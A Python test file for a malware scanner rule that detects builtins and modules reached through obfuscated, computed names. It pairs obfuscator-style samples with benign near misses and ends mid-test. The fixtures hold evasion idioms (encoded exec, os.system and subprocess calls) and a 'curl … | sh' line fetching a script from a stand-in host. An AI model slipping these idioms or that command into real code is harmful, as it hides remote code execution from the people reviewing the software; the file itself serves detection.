"""Lookups by computed names (caplet._scan._sink_lookups, CPL-THR-003): the idioms of
public obfuscators (issue 16, class 1), each with a near miss of benign code of the same
shape.

The attacks follow ``benchmarks/obfuscators.py``, which re-implements how Hyperion, a
"dunder-only" obfuscator and the CJK ``str(oct)`` family hide the builtins they call; the
near misses are the shapes the benign corpus has (the false positives issue 16 names).
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package


def danger(source: str, filename: str = "setup.py") -> set[str]:
    findings = scan_source(textwrap.dedent(source), filename, mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


# -- Hyperion: builtins stored into namespaces under other names ------------------------------


@pytest.mark.parametrize(
    "source",
    [
        # CreateVars: globals, locals and __import__ re-bound by writing namespaces
        "locals()['lIlIlIIlIl'] = globals\n",
        "lIlIlIIlIl = globals\nlIlIlIIlIl()['OoO0oO0'] = __import__\n",
        "globals()['MNNMNM'[::-1]] = getattr\n",
        # the last layer: eval fetched from the module's namespace by an escaped string
        "from builtins import *\nglobals()['\\x65\\x76\\x61\\x6c']('1')\n",
        "vars()['__import__']('o' 's')\n",
    ],
)
def test_a_builtin_stored_or_fetched_through_a_namespace_is_a_threat(source: str) -> None:
    assert "CPL-THR-003" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # cython's test saves and replaces exec in its globals (a function of the file)
        "globals()['exec'] = check_syntax\n",
        # requests' vendored packages and numpy's re-exports: values computed, not builtins
        "for package in ('urllib3', 'idna'):\n    locals()[package] = __import__(package)\n",
        "import lib\nfor name in lib.__all__:\n    globals()[name] = getattr(lib, name)\n",
        # a module's own global by a written-out name
        "VERSION = '1'\nv = globals()['VERSION']\n",
        # a dict of the file's own, not a namespace
        "table = {}\ntable['run'] = exec\n",
    ],
)
def test_namespaces_written_or_read_by_plain_code_are_not_threats(source: str) -> None:
    assert "CPL-THR-003" not in danger(source)


# -- the dunder-only obfuscator: names spelled from the interpreter's docstrings -------------


@pytest.mark.parametrize(
    "lookup",
    [
        "__builtins__.__getattribute__({name})",
        "__builtins__.__dict__.__getitem__({name})",
        "(_ := __builtins__.__getattribute__(__ := {name}))",
    ],
)
def test_a_builtin_fetched_by_a_name_spelled_from_str_doc_is_a_threat(lookup: str) -> None:
    # str.__doc__ reached from __name__ without a constant; the places are this
    # interpreter's, and the rule does not need to know the value
    doc = str.__doc__ or ""
    name = (
        ".__add__(".join(f"__name__.__class__.__doc__.__getitem__({doc.index(c)})" for c in "exec")
        + ")" * 3
    )
    assert "CPL-THR-003" in danger(lookup.format(name=name) + "('print(1)')\n")


def test_a_class_read_from_data_is_not_the_interpreters_text() -> None:
    # serialisers look a builtin type up by the name of a value's class
    source = """
    import builtins

    def restore(value):
        return getattr(builtins, value.__class__.__name__)(value)
    """
    assert "CPL-THR-003" not in danger(source, "mod.py")


# -- the CJK str(oct) family written every way the language allows ---------------------------


HEAD = "甲 = str(oct)\n乙 = str(hex)\n"
EXEC = "乙[20] + 乙[21] + 乙[20] + 甲[13]"


@pytest.mark.parametrize(
    "body",
    [
        # the letters' texts and places paired in a list, joined by a comprehension
        "n = ''.join(t[i] for t, i in [(乙, 20), (乙, 21), (乙, 20), (甲, 13)])\n"
        "getattr(__builtins__, n)('1')\n",
        # a helper lambda with builtins' namespace as a default
        "f = lambda n, b=__builtins__: getattr(b, n)\n" + f"f({EXEC})('1')\n",
        # a conditional expression, a starred list, a set
        f"n = {EXEC} if len(乙) > 3 else 甲\ngetattr(__builtins__, n)('1')\n",
        "p = [乙[20], 乙[21], 乙[20], 甲[13]]\ngetattr(__builtins__, ''.join([*p]))('1')\n",
        # places walked through enumerate, a generator, a helper with try and a nested def
        "n = ''\nfor k, i in enumerate([20, 21, 20]):\n    n += 乙[i]\n"
        "getattr(__builtins__, n + 甲[13])('1')\n",
        "def g():\n    for c in [乙[20], 乙[21], 乙[20], 甲[13]]:\n        yield c\n"
        "getattr(__builtins__, ''.join(g()))('1')\n",
        "def outer():\n    def inner():\n        try:\n"
        f"            return {EXEC}\n        except IndexError:\n            return ''\n"
        "    return inner()\ngetattr(__builtins__, outer())('1')\n",
        # helpers as a class's static method, with the texts as defaults, through nonlocal
        f"class H:\n    @staticmethod\n    def n():\n        return {EXEC}\n"
        "getattr(__builtins__, H.n())('1')\n",
        f"def n(甲=str(oct), 乙=str(hex)):\n    return {EXEC}\ngetattr(__builtins__, n())('1')\n",
        "def outer():\n    n = ''\n    def add(c):\n        nonlocal n\n        n += c\n"
        "    for c in [乙[20], 乙[21], 乙[20], 甲[13]]:\n        add(c)\n    return n\n"
        "getattr(__builtins__, outer())('1')\n",
        # the builtin reached by evaluating its name, letters picked by __getitem__
        "eval(''.join(map(乙.__getitem__, [20, 21, 20])) + 甲[13])('1')\n",
    ],
)
def test_every_spelling_of_a_sliced_builtin_name_is_a_threat(body: str) -> None:
    assert "CPL-THR-003" in danger(HEAD + body)


@pytest.mark.parametrize(
    "source",
    [
        # a method of an imported object is not this file's function of that name
        "import builtins, client\n\ndef n():\n    return 'ex' + 'ec'\n\n"
        "getattr(builtins, client.n())\n",
        # a value evaluated from its repr picks no letters
        "x = eval(repr(1.5) + '+' + str(2))\n",
        # a helper whose value is the caller's: cached, handed a parameter
        "import builtins, functools\n\n@functools.lru_cache(None)\ndef find(name):\n"
        "    return getattr(builtins, name)\n",
    ],
)
def test_lookups_and_evals_of_data_are_not_hidden_names(source: str) -> None:
    assert "CPL-THR-003" not in danger(source, "mod.py")


def test_a_loop_over_a_namespace_enumerates_it_and_hides_nothing() -> None:
    source = """
    import builtins
    for k, name in enumerate(dir(builtins)):
        print(k, getattr(builtins, name))
    """
    assert "CPL-THR-003" not in danger(source, "mod.py")


# -- invoke's vendored yaml: a resolver's parameters are the caller's data ---------------------


def test_a_name_resolver_handed_its_callers_names_is_not_a_hidden_lookup() -> None:
    # invoke/vendor/yaml/constructor.py (PyYAML's find_python_name), minimal: the module
    # name is written out in one branch, the attribute is the parameter handed on
    source = """
    import sys

    class Constructor:
        def find_python_name(self, name, mark, unsafe=False):
            if '.' in name:
                module_name, object_name = name.rsplit('.', 1)
            else:
                module_name = 'builtins'
                object_name = name
            if unsafe:
                __import__(module_name)
            module = sys.modules[module_name]
            return getattr(module, object_name)

        def construct_python_name(self, suffix, node):
            return self.find_python_name(suffix, node.start_mark)

    class UnsafeConstructor(Constructor):
        def find_python_name(self, name, mark):
            return super().find_python_name(name, mark, unsafe=True)
    """
    assert "CPL-THR-003" not in danger(source, "constructor.py")


def test_the_same_resolver_handed_a_name_built_from_literals_is_a_hidden_lookup() -> None:
    source = """
    def find(name):
        return getattr(__builtins__, name)

    find('ex' + 'ec')('print(1)')
    """
    assert "CPL-THR-003" in danger(source, "mod.py")


# -- pyobfuscate.com: builtins re-published under other names ---------------------------------


@pytest.mark.parametrize(
    "source",
    [
        # the obfuscator's first line: a table of renamed builtins written into builtins
        "pyobfuscate = (lambda getattr: [((lambda k, v: setattr(__builtins__, k, v))(k, v))"
        " for k, v in getattr.items()])\n"
        "pyobfuscate({'IIllIl': exec, 'lIIlll': __import__})\n",
        "import builtins\nT = {'lIlI': eval}\nfor k in T:\n    setattr(builtins, k, T[k])\n",
        "setattr(__builtins__, 'lIlIlI', exec)\n",
        # the table's keys split into pieces (mutate_recall.py's str-* rewrites, issue 16)
        "pyobfuscate = (lambda getattr: [((lambda k, v: setattr(__builtins__, k, v))(k, v))"
        " for k, v in getattr.items()])\n"
        "pyobfuscate({'IIl' + 'lIl': exec, ''.join(['lII', 'lll']): __import__})\n",
        "setattr(__builtins__, 'lIl' + 'IlI', exec)\n",
        "setattr(__builtins__, bytes.fromhex('6c496c49').decode(), exec)\n",
    ],
)
def test_a_builtin_re_published_under_another_name_is_a_threat(source: str) -> None:
    assert "CPL-THR-003" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # pexpect's and cython's tests swap a builtin and put the original back
        "import builtins\ninput_name = 'input'\nsetattr(builtins, input_name, fake)\n",
        "import builtins\nsaved = {'input': input}\n"
        "for name, value in saved.items():\n    setattr(builtins, name, value)\n",
        "import builtins\nsetattr(builtins, '_', gettext)\n",
        # the builtin's own name, spelled in pieces: still a swap, not a rename
        "import builtins\nsetattr(builtins, 'in' + 'put', input)\n",
        "import builtins\nsaved = {'in' + 'put': input}\n"
        "for name, value in saved.items():\n    setattr(builtins, name, value)\n",
    ],
)
def test_builtins_swapped_by_their_own_names_are_not_threats(source: str) -> None:
    assert "CPL-THR-003" not in danger(source, "test_mod.py")


# -- every way to look a name up, given builtins and a name the evaluator cannot spell -------


#: "__import__" with its letters picked by map(str.__getitem__): closed over literals, not
#: evaluated, so only closedness can tell it is hidden.
PICKED = "'__' + ''.join(map(丙.__getitem__, [{}])) + '__'".format(
    ", ".join(str(str(copyright).index(c)) for c in "import")
)


@pytest.mark.parametrize(
    "lookup",
    [
        "object.__getattribute__(__builtins__, {n})",
        "type(__builtins__).__getattribute__(__builtins__, {n})",
        "dict.get(vars(__builtins__), {n})",
        "dict.__getitem__(vars(__builtins__), {n})",
        "vars(__builtins__).copy().pop({n})",
        "__import__('functools').reduce(getattr, [{n}], __builtins__)",
        "__import__('inspect').getattr_static(__import__('builtins'), {n})",
        "__import__('operator').attrgetter({n})(__builtins__)",
    ],
)
def test_every_lookup_of_a_builtin_by_a_picked_name_is_a_threat(lookup: str) -> None:
    source = "丙 = str(copyright)\nm = " + lookup.format(n=PICKED) + "('os')\n"
    assert "CPL-THR-003" in danger(source)


def test_names_spelled_from_sys_copyright_and_an_instance_helper_are_hidden() -> None:
    picks = " + ".join(f"t[{str(copyright).index(c)}]" for c in "import")
    assert "CPL-THR-003" in danger(
        f"import sys\nt = sys.copyright\ngetattr(__builtins__, '__' + {picks} + '__')('os')\n"
    )
    assert "CPL-THR-003" in danger(
        "class H:\n    def n(self):\n        return 'ex' + 'ec'\n"
        "h = H()\ngetattr(__builtins__, ''.join(reversed(h.n()[::-1])))('1')\n"
    )


@pytest.mark.parametrize(
    "source",
    [
        # a configuration's key, read from the caller
        "import builtins\n\ndef pick(name):\n    return dict.get(vars(builtins), name)\n",
        # the platform's name is the host's data, not the interpreter's text
        "import builtins, sys\nf = object.__getattribute__(builtins, sys.platform[:3])\n",
    ],
)
def test_lookups_by_data_in_other_spellings_are_not_hidden_names(source: str) -> None:
    assert "CPL-THR-003" not in danger(source, "mod.py")


@pytest.mark.parametrize(
    "source",
    [
        "m = __import__(" + PICKED.replace("'__' + ", "").replace(" + '__'", "") + ")\n",
        "import importlib as il\nm = il.import_module(''.join(map(丙.__getitem__, [{}])))\n".format(
            ", ".join(str(str(copyright).index(c)) for c in "pip")
        ),
        "import pip\nf = getattr(pip, ''.join(map(丙.__getitem__, [{}])))\n".format(
            ", ".join(str(str(copyright).index(c)) for c in "main")
        ),
    ],
)
def test_a_module_or_its_function_named_by_picked_letters_is_a_threat(source: str) -> None:
    assert "CPL-THR-003" in danger("丙 = str(copyright)\n" + source)


def test_modules_named_by_data_or_written_out_are_not_hidden() -> None:
    source = """
    import importlib, json

    def load(plugin):
        return importlib.import_module("plugins." + plugin)

    codec = getattr(json, "dumps")
    """
    assert "CPL-THR-003" not in danger(source, "mod.py")


# -- a name assembled from a builtin's text, whatever it spells here --------------------------


@pytest.mark.parametrize(
    "source",
    [
        # places counted in another interpreter's copyright text spell other letters here
        "t = str(copyright)\nm = __import__(t[3] + t[9] + t[44])\n",
        "import pip\nt = str(copyright)\ngetattr(pip, t[5] + t[7])(['install', 'x'])\n",
        "import importlib\nt = repr(credits)\nm = importlib.import_module(t[30] + t[31])\n",
        "import os\nf = vars(os)[int.__doc__[30] + int.__doc__[7]]\n",
        "t = f'{oct}'\nf = getattr(__builtins__, t[1] + t[9])\n",
        # the text handed to a class, kept on self and picked by a method defined above
        "class P:\n    def __init__(self, t):\n        self.t = t\n"
        "    def pick(self, *at):\n        return ''.join(self.t[i] for i in at)\n"
        "f = getattr(__builtins__, P(str(hex)).pick(20, 21, 20))\n",
        # the builtin whose text is sliced reached through builtins' namespace
        "import sys\nb = sys.modules['builtins'].__dict__\nt = str(b['oct'])\nf = b[t[6] + t[5]]\n",
    ],
)
def test_a_name_sliced_out_of_a_builtins_text_is_hidden_whatever_it_spells(source: str) -> None:
    assert "CPL-THR-003" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # a value's text, not a builtin's; a literal's letters
        "import json\n\ndef encoder(value):\n    return getattr(json, str(value)[:5])\n",
        "import os\nsep = getattr(os, 'sepx'[:3])\n",
        "import string\nm = __import__('json'[0:4])\n",
        # platform.py: a cache keyed by sys.version, parsed as every version check does
        "import sys\n_cache = {}\n\ndef parse(v=None):\n    if v is None:\n"
        "        v = sys.version\n    _cache[v] = v.split()[0]\n    return _cache[v[:3]]\n",
    ],
)
def test_names_sliced_from_data_or_literals_are_not_builtin_text(source: str) -> None:
    assert "CPL-THR-003" not in danger(source, "mod.py")


@pytest.mark.parametrize(
    "source",
    [
        # pillow's Image.py: a parameter called format, a plugin module imported by name,
        # a palette sliced by numbers
        "def dump(file=None, format=None):\n    return f'.{format}'\n\n"
        "def load(plugin):\n"
        "    __import__(f'{__spec__.parent}.{plugin}', globals(), locals(), [])\n"
        "palette = b''\nfor i, p in enumerate([1, 2]):\n"
        "    palette += bytes(3)[p * 3 : p * 3 + 3]\n",
        # litellm: a list indexed in a sort key, beside an f-string of a builtin's text
        "values = [3, 1]\nlabel = f'{len}'\n"
        "top = sorted(range(len(values)), key=lambda i: values[i])[:5]\n",
        # future's tests: eval of a line a child process printed
        "import os\nlines = os.read(0, 100).decode().splitlines()\nvalue = eval(lines[1])\n",
        # pycryptodome's setup.py: a test module imported by a path built from its name
        "root = 'Cryptodome'\nname = 'Math.Numbers'\ncomps = name.split('.')\n"
        "m = __import__(root + '.SelfTest.' + comps[0] + '.test_' + comps[1])\n",
    ],
)
def test_the_benign_corpus_shapes_of_data_indexing_are_not_hidden_names(source: str) -> None:
    assert "CPL-THR-003" not in danger(source, "mod.py")


# -- written blind to these rules (branch blindcn): names a helper or a test computes -------


@pytest.mark.parametrize(
    "source",
    [
        # a builtin picked out of dir(builtins) by a test, never by its name
        "import builtins\n"
        "run = next(getattr(builtins, n) for n in dir(builtins)\n"
        "           if len(n) == 4 and n.endswith('ec'))\n",
        "import builtins\n"
        "run = [getattr(builtins, n) for n in dir(builtins) if n[::-1] == 'lave'][0]\n",
        # names built by helpers with *args, zip or a cycled XOR key
        "import importlib, string, sys\nL = string.ascii_lowercase\n"
        "def n(*ix):\n    return ''.join(L[i] for i in ix)\n"
        "sp = importlib.import_module(n(18, 20, 1, 15, 17, 14, 2, 4, 18, 18))\n"
        "sp.Popen(cmd)\n",
        "def weave(a, b):\n    return ''.join(''.join(p) for p in zip(a, b))\n"
        "mod = __import__(weave('sbrcs', 'upoes'))\nmod.check_output(cmd)\n",
        "import importlib, itertools\n"
        "def x(blob):\n"
        "    return bytes(a ^ b for a, b in zip(blob, itertools.cycle(b'py'))).decode()\n"
        "sp = importlib.import_module(x(b'\\x03\\x0c\\x12\\t\\x02\\x16\\x13\\x1c\\x03\\n'))\n"
        "sp.Popen(cmd)\n",
        # a computed value spread into str.format
        "import codecs\n"
        "kind = '{0}{1}{0}{2}'.format(*codecs.decode('657863', 'hex').decode())\n"
        "vars(__builtins__).get(kind)(payload)\n",
    ],
)
def test_names_computed_by_tests_helpers_and_pairs_are_hidden(source: str) -> None:
    assert "CPL-THR-003" in danger(source, "pkg/__init__.py")


@pytest.mark.parametrize(
    "source",
    [
        # a sandbox copying the public builtins: a walk over the listing, no pick
        "import builtins\n"
        "safe = {n: getattr(builtins, n) for n in dir(builtins) if not n.startswith('_')}\n",
        "import builtins\nnames = [getattr(builtins, n) for n in dir(builtins) if n.islower()]\n",
        # a test keeping harmless names only
        "import builtins\n"
        "f = next(getattr(builtins, n) for n in dir(builtins) if n.startswith('pri'))\n",
    ],
)
def test_a_listing_walked_or_filtered_to_harmless_names_is_no_pick(source: str) -> None:
    assert "CPL-THR-003" not in danger(source, "pkg/__init__.py")


def test_a_lookup_through_a_table_of_computed_names_is_hidden() -> None:
    """The key comes from another module (``native("run")``); the table spells the names."""
    source = (
        "import builtins\n"
        "_ALIASES = {'run': 'cexe'[::-1], 'text': 'rts'[::-1]}\n"
        "def native(alias):\n"
        "    return getattr(builtins, _ALIASES[alias])\n"
    )
    assert "CPL-THR-003" in danger(source, "pkg/_compat.py")


@pytest.mark.parametrize(
    "table",
    [
        "{'run': 'exec', 'text': 'str'}",  # written out: a dispatch table anyone reads
        "{'up': 'str'.upper(), 'n': 'len'}",  # computed, but nothing worth hiding
    ],
)
def test_a_table_written_out_or_of_harmless_names_hides_nothing(table: str) -> None:
    source = (
        f"import builtins\n_ALIASES = {table}\n"
        "def native(alias):\n"
        "    return getattr(builtins, _ALIASES[alias])\n"
    )
    assert "CPL-THR-003" not in danger(source, "pkg/_compat.py")


@pytest.mark.parametrize(
    "source",
    [
        # getattr given its arguments spread, or mapped over lists in step
        "import builtins\nf = getattr(*(builtins, 'cexe'[::-1]))\nf(payload)\n",
        "import builtins\nargs = [builtins, 'cexe'[::-1]]\nf = getattr(*args)\nf(payload)\n",
        "import builtins\nf = list(map(getattr, [builtins], ['cexe'[::-1]]))[0]\nf(payload)\n",
        # operator.getitem of a namespace is its subscript
        "import builtins, operator\n"
        "f = operator.getitem(vars(builtins), 'cexe'[::-1])\nf(payload)\n",
    ],
)
def test_getattr_spread_mapped_or_by_operator_is_still_a_computed_lookup(source: str) -> None:
    assert "CPL-THR-003" in danger(source, "pkg/__init__.py")


@pytest.mark.parametrize(
    "source",
    [
        "import json\nargs = [json, 'dumps']\nf = getattr(*args)\n",
        "import json\nfs = list(map(getattr, [json, json], ['dumps', 'loads']))\n",
        "import operator\nrow = operator.getitem({'a': 1}, 'a')\n",
    ],
)
def test_getattr_spread_or_mapped_over_written_names_hides_nothing(source: str) -> None:
    assert "CPL-THR-003" not in danger(source, "pkg/__init__.py")


def test_a_module_fetched_from_globals_by_a_computed_key_is_that_import() -> None:
    """``globals()[rot13("bf")]`` is the file's ``import os``; its function looked up by a
    computed name is hidden (blindcn, tune cn7-discord-embedify)."""
    source = (
        "import codecs, os\n"
        "def r(s):\n    return codecs.decode(s, 'rot_13')\n"
        "m = globals()[r('bf')]\n"
        "getattr(m, r('cbcra'))(cmd)\n"
    )
    assert "CPL-THR-003" in danger(source, "pkg/__init__.py")


@pytest.mark.parametrize(
    "source",
    [
        # a lambda called in place with the computed name
        "import os\nrun = (lambda n: getattr(os, n))('sys' + 'tem')\nrun('id')\n",
        # a frame's builtins indexed by a built name
        "import sys\nb = sys._getframe().f_builtins\nb['ex' + 'ec'](payload)\n",
    ],
)
def test_a_lambda_argument_and_a_frames_builtins_are_computed_lookups(source: str) -> None:
    assert "CPL-THR-003" in danger(source, "pkg/__init__.py")


def test_a_lambda_given_a_written_name_hides_nothing() -> None:
    source = "import json\nf = (lambda n: getattr(json, n))('dumps')\n"
    assert "CPL-THR-003" not in danger(source, "pkg/__init__.py")


# -- blind8 (issue 16 point 1): the spellings a previous blind round left missed -------------


def anywhere(source: str) -> set[str]:
    """Rule ids of package mode and of the whole-file pass (plugin mode): a near miss must
    be clean in both, since the prefilter may hide what the rules would say."""
    whole = scan_source(textwrap.dedent(source), "mod.py", mode=ScanMode.PLUGIN)
    return danger(source, "mod.py") | {f.rule_id for f in whole}


@pytest.mark.parametrize(
    "source",
    [
        # a module name spelled by a loop the evaluator does not follow, then imported
        'n = ""\nfor c in [111, 115]:\n    n += chr(c)\nm = __import__(n)\nm.system("id")\n',
        # the name is the default of an environment read whenever the variable is unset
        'import os\nfn = getattr(os, os.environ.get("RUNNER", "sys" + "tem"))\nfn("id")\n',
        'import os\nfn = getattr(os, os.getenv("RUNNER") or "sys" + "tem")\nfn("id")\n',
        # builtins' members made a table
        'import inspect, builtins\nt = dict(inspect.getmembers(builtins))\nt["cexe"[::-1]]("1")\n',
        # a namespace's lookup mapped over a list of built names
        'import builtins\nns = vars(builtins)\nf, = map(ns.get, ["".join(["ev", "al"])])\n',
        # candidates built from pieces, tried in turn
        'import os\nfor c in ("sp" + "awn", "sys" + "tem"):\n'
        "    if hasattr(os, c):\n        run = getattr(os, c)\n        break\n",
        # a module found by a built name
        'import importlib.util\nspec = importlib.util.find_spec("o" + "s")\n',
    ],
)
def test_names_a_blind_round_found_unfollowed_are_computed_lookups(source: str) -> None:
    assert "CPL-THR-003" in danger(source, "mod.py")


@pytest.mark.parametrize(
    "source",
    [
        # optional imports tried in turn by names written out
        'for name in ("simplejson", "json"):\n    try:\n        mod = __import__(name)\n'
        "        break\n    except ImportError:\n        pass\n",
        # an attribute named by configuration, with a plain default
        'import os\nfn = getattr(os, os.environ.get("FUNC", "getcwd"))\n',
        # a module's members as a table, indexed by a parameter
        "import inspect\ndef member(mod, name):\n    return dict(inspect.getmembers(mod))[name]\n",
        # a settings lookup mapped over keys written out
        'values = list(map(settings.get, ["host", "port"]))\n',
        # dunder names built from pieces that hide nothing
        'import os\nfor a in ("__" + "version" + "__", "__" + "all" + "__"):\n'
        "    v = getattr(os, a, None)\n",
        # a plugin found by a name built from pieces
        'import importlib.util\nspec = importlib.util.find_spec("my" + "plugin")\n',
    ],
)
def test_the_same_shapes_naming_nothing_hidden_are_not(source: str) -> None:
    assert "CPL-THR-003" not in anywhere(source)


def test_a_loader_handed_names_its_callers_build_is_not_a_computed_import() -> None:
    # the shape of pyparsing's, sympy's and pycryptodomex's loaders (branch blindcn)
    source = """
    def load(name):
        return __import__(name)

    load("Crypto.Cipher" + "._raw_aes")
    load("Crypto.Hash" + "._raw_md5")
    """
    assert "CPL-THR-003" not in anywhere(source)


@pytest.mark.parametrize(
    "source",
    [
        # rows of (name, version) unpacked by a loop: columns written out (matplotlib)
        "import importlib\nfor modname, minver in [('cycler', '0.10'), ('numpy', '1.25')]:\n"
        "    module = importlib.import_module(modname)\n",
        # rows holding an attribute of the module beside its name (urllib3's conftest)
        "import ssl\nfor name, v in (('PROTOCOL_TLSv1', ssl.TLSVersion.TLSv1), ('X', None)):\n"
        "    value = getattr(ssl, name, 0)\n",
    ],
)
def test_a_loop_over_rows_written_out_is_not_a_computed_name(source: str) -> None:
    assert "CPL-THR-003" not in anywhere(source)


def test_a_module_named_from_an_objects_option_is_not_a_computed_import() -> None:
    # pycryptodomex's setup.py: a test command importing the module its option names
    source = """
    class TestCommand:
        def initialize_options(self):
            self.module = None

        def run(self):
            comps = self.module.split(".")
            full = "Crypto" + ".SelfTest." + comps[0] + ".test_" + comps[1]
            return __import__(full, globals(), locals(), "test_" + comps[1])
    """
    assert "CPL-THR-003" not in danger(source, "setup.py")


def test_a_module_named_by_what_a_fixture_is_handed_is_not_a_computed_import() -> None:
    # pydantic's tests/test_lazy_imports.py: modules written and imported by their names
    source = """
    import importlib, sys, textwrap

    def import_lazy_modules(tmp_path, monkeypatch):
        created: list[str] = []

        def run(**sources: str):
            for name, source in sources.items():
                (tmp_path / f"{name}.py").write_text(textwrap.dedent(source))
                created.append(name)
            importlib.invalidate_caches()
            return importlib.import_module(created[0])

        yield run

        for name in created:
            sys.modules.pop(name, None)

    def test_circular(import_lazy_modules):
        mod_a = import_lazy_modules(lazy_cycle_a="x = 1", lazy_cycle_b="y = 2")
    """
    # plugin mode visits the whole file (the prefilter of package mode hid it; the
    # whole-file pass of benchmarks/prefilter_differential.py found it)
    findings = scan_source(textwrap.dedent(source), "test_lazy.py", mode=ScanMode.PLUGIN)
    assert "CPL-THR-003" not in {f.rule_id for f in findings}


# -- recall10: a dict of the file filled with a namespace, looked up by a decoded key ------
_FILLED_NAMESPACES = {
    "update-vars-builtins": "import builtins, base64\nd = {}\nd.update(vars(builtins))\n"
    "k = base64.b64decode('ZXZhbA==').decode()\nd[k]('1+1')\n",
    "update-os-dict": "import os, base64\nd = {}\nd.update(os.__dict__)\n"
    "d[base64.b64decode('c3lzdGVt').decode()]('id')\n",
    "dict-call-update": "import os, base64\nd = dict()\nd.update(os.__dict__)\n"
    "d[base64.b64decode('c3lzdGVt').decode()]('id')\n",
    # attack11: the namespace copied by a spread or chained, not filled after the binding
    "spread-vars-builtins": "import builtins, base64\nd = {**vars(builtins)}\n"
    "k = base64.b64decode('ZXZhbA==').decode()\nd[k]('1+1')\n",
    "chainmap-vars-builtins": "import builtins, base64, collections\n"
    "d = collections.ChainMap(vars(builtins))\n"
    "k = base64.b64decode('ZXZhbA==').decode()\nd[k]('1+1')\n",
    "chainmap-os-dict": "import os, base64\nfrom collections import ChainMap\n"
    "d = ChainMap({}, os.__dict__)\nd[base64.b64decode('c3lzdGVt').decode()]('id')\n",
}


@pytest.mark.parametrize("shape", sorted(_FILLED_NAMESPACES))
def test_a_decoded_key_looked_up_in_a_dict_filled_with_a_namespace_is_a_threat(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = _FILLED_NAMESPACES[shape]
    found_in_a_package(tmp_path, monkeypatch, text, "CPL-THR-003")
    plugin = scan_source(text, "mod.py", mode=ScanMode.PLUGIN)
    assert "CPL-THR-003" in {f.rule_id for f in plugin if f.severity is Severity.DANGER}


@pytest.mark.parametrize(
    "text",
    [
        # a dict filled with the environment, or a namespace looked up by a key read from data
        "import os\nd = {}\nd.update(os.environ)\nprint(d[name])\n",
        "import builtins, json\nd = {}\nd.update(vars(builtins))\nprint(d[json.loads(s)['k']])\n",
        # a namespace copied and looked up by a decoded key that names nothing worth hiding
        "import os, base64\nd = {}\nd.update(os.__dict__)\nd[base64.b64decode('c2Vw').decode()]\n",
    ],
    ids=["environment", "data-key", "harmless-name"],
)
def test_a_filled_dict_looked_up_otherwise_is_no_threat(text: str) -> None:
    assert "CPL-THR-003" not in danger(text, "mod.py")
    plugin = scan_source(text, "mod.py", mode=ScanMode.PLUGIN)
    assert "CPL-THR-003" not in {f.rule_id for f in plugin if f.severity is Severity.DANGER}


# -- blind13: a module imported by a name decoded in a helper its callers hand encoded names --

_DECODED_IMPORTS = [
    """
    import base64, importlib
    def _resolve(mod, attr):
        return getattr(importlib.import_module(base64.b32decode(mod).decode()), attr)
    _resolve("ON2WE4DSN5RWK43T", "Popen")("id", shell=True)
    """,
    """
    import codecs
    def load(name):
        real = codecs.decode(name, "rot_13")
        return __import__(real)
    load("fhocebprff")
    """,
]


@pytest.mark.parametrize("source", _DECODED_IMPORTS)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_module_imported_by_a_decoded_name_is_a_threat(source: str, mode: ScanMode) -> None:
    findings = scan_source(textwrap.dedent(source), "pkg/registry.py", mode=mode)
    assert "CPL-THR-003" in {f.rule_id for f in findings if f.severity is Severity.DANGER}


@pytest.mark.parametrize("source", _DECODED_IMPORTS)
def test_the_prefilter_keeps_a_module_imported_by_a_decoded_name(
    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-003")


def test_a_plugin_loader_given_names_read_as_text_is_not() -> None:
    # names its callers write out, or bytes read from a file and decoded as text
    source = """
    import importlib, sys
    def load(name):
        return importlib.import_module("plugins." + name)
    load("csv_export")
    def from_file(path):
        with open(path, "rb") as f:
            return importlib.import_module(f.read().decode("utf-8").strip())
    from_file(sys.argv[1])
    """
    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
        findings = scan_source(textwrap.dedent(source), "pkg/registry.py", mode=mode)
        assert "CPL-THR-003" not in {f.rule_id for f in findings}


# -- blind19: a constructor given literals, a template, a default argument ---------------------

_KRAMER = """\
class Kramer:
    def __init__(self, _k, _n, _s):
        self._k = _k
        _b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
        self.r = _b[self.d(_n)](self.d(_s))

    def d(self, t):
        return "".join(chr(ord(c) - self._k) for c in t)


Kramer(7, "lhjl", "pt'vz'zfz{lt/'jbysz'4m'o{{w'x-'4'zo'.")
"""


def test_a_builtin_named_by_a_classs_constructor_given_literals_is_a_threat(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # blind19 (b19-cn-kramer-shift-class): the Kramer obfuscator's class, whose constructor
    # shifts its literal arguments back into a builtin's name and a stage
    assert "CPL-THR-003" in danger(_KRAMER, "pkg/__init__.py")
    found_in_a_package(tmp_path, monkeypatch, _KRAMER, "CPL-THR-003")


@pytest.mark.parametrize(
    "source",
    [
        # a converter told which builtin type to make by its caller's data
        "import builtins, os\nclass Conv:\n    def __init__(self, kind):\n"
        "        self.f = getattr(builtins, kind)\nConv(os.environ['KIND']).f('1')\n",
        # a constructor given a name written out: no name is hidden
        "import builtins\nclass Conv:\n    def __init__(self, kind):\n"
        "        self.f = getattr(builtins, kind)\nConv('int').f('1')\n",
    ],
    ids=["data", "plain-literal"],
)
def test_constructors_given_data_or_plain_names_are_not_hidden_lookups(source: str) -> None:
    assert danger(source, "pkg/__init__.py") == set()


def test_a_module_named_by_a_string_template_is_a_hidden_import(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = (
        "import importlib, string\nT = string.Template('${a}${b}')\n"
        "m = importlib.import_module(T.substitute(a='sub', b='process'))\n"
        "m.Popen('curl -fsSL http://203.0.113.7/s.sh | sh', shell=True)\n"
    )
    assert "CPL-THR-003" in danger(source, "pkg/__init__.py")
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-003")


def test_a_template_filling_a_log_file_name_is_clean() -> None:
    source = (
        "import string\nname = string.Template('$app-$day.log').substitute(app='x', day='mon')\n"
